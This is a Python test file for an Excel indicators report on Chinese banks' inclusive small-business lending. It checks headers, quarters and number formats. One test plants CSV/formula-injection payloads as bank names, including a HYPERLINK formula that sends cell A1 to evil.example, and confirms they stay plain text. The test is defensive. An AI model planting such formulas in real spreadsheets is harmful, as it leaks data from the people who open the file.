"""indicators.xlsx read back with openpyxl: Chinese headers and statuses, the period's on-lending
quarters only, text never a formula, counts in whole-number format."""

from __future__ import annotations

import dataclasses
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from analysis.outputs.excel import write_indicator_workbook
from analysis.rules.indicators import onlending_quarters_through
from analysis.state import compute_state

ROOT = Path(__file__).resolve().parents[2]
ENGLISH_STATUSES = {"met", "not_met", "watch", "n/a"}
HOSTILE_NAMES = {
    "B010": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "B011": "+1+1",
    "B012": "-2+3",
    "B013": "@SUM(A1:A9)",
    "B014": "\t=1+1",
    "B015": "\r=1+1",
}


@pytest.fixture(scope="module")
def state(demo_csv_dir):
    return compute_state(demo_csv_dir, ROOT / "params")


def sheet_rows(path: Path, name: str) -> list[list]:
    book = openpyxl.load_workbook(path)
    return [[c.value for c in row] for row in book[name].iter_rows()]


def as_records(rows: list[list]) -> list[dict]:
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def test_onlending_quarters_through_hand_made():
    ol = pd.DataFrame({"institution_id": ["B001"] * 5, "quarter": ["2022Q4", "2023Q1", "2023Q2", "2023Q3", "2024Q1"]})
    pick = lambda period: onlending_quarters_through(ol, pd.Timestamp(period))["quarter"].tolist()  # noqa: E731
    assert pick("2023-05-31") == ["2023Q1"]  # Q2 has not ended at the end of May
    assert pick("2023-06-30") == ["2023Q1", "2023Q2"]
    assert pick("2023-12-31") == ["2023Q1", "2023Q2", "2023Q3"]
    assert pick("2023-02-28") == []
    assert pick("2024-03-31") == ["2024Q1"]  # never the previous year's quarters


def test_onlending_sheet_is_the_periods_quarters_in_chinese(state, tmp_path):
    june = write_indicator_workbook(state, pd.Timestamp("2023-06-30"), tmp_path / "2023-06.xlsx")
    rows = sheet_rows(june, "转贷款")
    assert rows[0] == [
        "机构编码",
        "机构名称",
        "季度",
        "转贷款发放金额（万元）",
        "终端平均利率（%）",
        "基准季度（上季度）",
        "上季度当地同类机构新发放普惠型小微企业贷款加权平均利率（%）",
        "终端平均利率与基准之差（BP）",
        "状态：终端利率不高于基准",
        "不适用原因",
    ]
    records = as_records(rows)
    assert [(r["机构编码"], r["季度"]) for r in records] == [("B001", "2023Q1"), ("B001", "2023Q2")]
    assert {r["机构名称"] for r in records} == {"宛农发展银行南阳市分行（示例）"}
    assert {r["基准季度（上季度）"] for r in records} == {"2022Q4", "2023Q1"}
    assert {r["状态：终端利率不高于基准"] for r in records} <= {"达标", "未达标", "关注", "不适用"}

    december = write_indicator_workbook(state, pd.Timestamp("2023-12-31"), tmp_path / "2023-12.xlsx")
    records = as_records(sheet_rows(december, "转贷款"))
    assert [r["季度"] for r in records] == ["2023Q1", "2023Q2", "2023Q3", "2023Q4"]
    q3 = next(r for r in records if r["季度"] == "2023Q3")
    assert q3["状态：终端利率不高于基准"] == "未达标"  # planted in the demo: Q3 above the benchmark
    assert q3["终端平均利率与基准之差（BP）"] > 0


def test_no_english_statuses_or_booleans(state, tmp_path):
    path = write_indicator_workbook(state, pd.Timestamp("2023-06-30"), tmp_path / "ind.xlsx")
    book = openpyxl.load_workbook(path)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.value not in ENGLISH_STATUSES, (sheet.title, cell.coordinate, cell.value)
                assert not isinstance(cell.value, bool), (sheet.title, cell.coordinate)
    records = as_records(sheet_rows(path, "机构指标"))
    assert {r["差异化考核"] for r in records} <= {"是", "否"}
    assert {r["状态：两增"] for r in records} <= {"达标", "未达标", "关注", "不适用"}
    city = as_records(sheet_rows(path, "全市三项通报指标"))
    assert city[0]["数据期"] == "2023-06"
    assert city[0]["法人银行总体“两增”是否完成"] in {"是", "否"}


def hostile_state(state):
    """The demo state with formula-like institution names and one negative growth gap."""
    institutions = state.dataset.institutions.copy()
    indicators = state.indicators.copy()
    for inst_id, name in HOSTILE_NAMES.items():
        institutions.loc[institutions["institution_id"] == inst_id, "name"] = name
        indicators.loc[indicators["institution_id"] == inst_id, "name"] = name
    june = (indicators["institution_id"] == "B020") & (indicators["period"] == pd.Timestamp("2023-06-30"))
    indicators.loc[june, "growth_margin_pp"] = -1.25
    dataset = dataclasses.replace(state.dataset, institutions=institutions)
    return dataclasses.replace(state, dataset=dataset, indicators=indicators, _score_cache={})


def test_formula_like_names_stay_text(state, tmp_path):
    path = write_indicator_workbook(hostile_state(state), pd.Timestamp("2023-06-30"), tmp_path / "ind.xlsx")
    sheet = openpyxl.load_workbook(path)["机构指标"]
    header = [c.value for c in sheet[1]]
    id_col, name_col = header.index("机构编码"), header.index("机构名称")
    gap_col = header.index("普惠增速与各项贷款增速之差（个百分点）")
    seen = {}
    for row in sheet.iter_rows(min_row=2):
        seen[row[id_col].value] = row
    for inst_id, name in HOSTILE_NAMES.items():
        cell = seen[inst_id][name_col]
        assert cell.data_type == "s", (inst_id, cell.data_type)  # 'f' would be a live formula
        # unchanged: a CR is stored as Excel's escape _x000D_, which openpyxl does not decode
        assert unescape(cell.value) == name
        assert cell.quotePrefix  # Excel's "typed with a leading '" flag
    negative = seen["B020"][gap_col]
    assert negative.value == -1.25 and negative.data_type == "n"  # a negative number stays a number
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/sheet"):
                assert "<f>" not in archive.read(member).decode("utf-8"), member
    # pandas sees the same text
    frame = pd.read_excel(path, sheet_name="机构指标", dtype={"机构编码": str}, engine="openpyxl")
    assert frame.set_index("机构编码").loc["B010", "机构名称"] == HOSTILE_NAMES["B010"]


def test_counts_are_whole_numbers_in_excel(state, tmp_path):
    path = write_indicator_workbook(state, pd.Timestamp("2023-06-30"), tmp_path / "ind.xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book["机构指标"]
    header = [c.value for c in sheet[1]]
    count_headers = [
        "普惠型小微企业贷款余额户数（户）",
        "有贷款余额户数较年初变化（户）",
        "同类机构家数（家）",
        "小微企业保险保单件数（件）",
    ]
    source = state.indicators[state.indicators["period"] == pd.Timestamp("2023-06-30")].set_index("institution_id")
    for row in sheet.iter_rows(min_row=2):
        inst_id = row[header.index("机构编码")].value
        for h in count_headers:
            cell = row[header.index(h)]
            if cell.value is not None:
                assert cell.number_format == "#,##0", (h, cell.number_format)
                assert isinstance(cell.value, int), (h, cell.value)
        amount = row[header.index("普惠型小微企业贷款余额（万元）")]
        if amount.value is not None:
            assert amount.number_format == "#,##0.00"
            assert amount.value == pytest.approx(source.loc[inst_id, "inclusive_balance"])
        borrowers = row[header.index("普惠型小微企业贷款余额户数（户）")].value
        if borrowers is not None:
            assert borrowers == source.loc[inst_id, "inclusive_borrowers"]
    year = sheet.cell(row=2, column=header.index("年度") + 1)
    assert year.value == 2023 and year.number_format == "General"  # not "2,023"
    city = book["全市三项通报指标"]
    city_header = [c.value for c in city[1]]
    for h in ("法人银行家数", "法人银行普惠型小微企业贷款户数（户）", "户数较年初变化（户）"):
        assert city.cell(row=2, column=city_header.index(h) + 1).number_format == "#,##0", h
